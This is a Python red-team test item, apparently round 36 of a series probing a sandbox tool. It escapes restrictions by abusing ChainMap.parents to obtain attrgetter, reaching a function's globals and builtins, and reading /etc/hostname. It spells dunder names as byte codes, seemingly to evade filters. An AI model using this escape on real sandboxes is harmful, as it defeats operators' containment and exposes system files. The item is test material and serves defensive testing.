# family: red team, round 36 (a ChainMap subclass of the tool: MyMap.parents.fget(Box) is type(*Box.maps[1:]))
import collections
import operator


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Layers(collections.ChainMap):
    pass


class Box:
    maps = [None, operator.attrgetter("real")]


def main():
    getter_class = Layers.parents.fget(Box)
    namespace = getter_class(dunder("globals"))(main)
    print(namespace["collections"])
    builtins = namespace[dunder("builtins")]
    print(getter_class("open")(builtins)("/etc/hostname").read())


main()
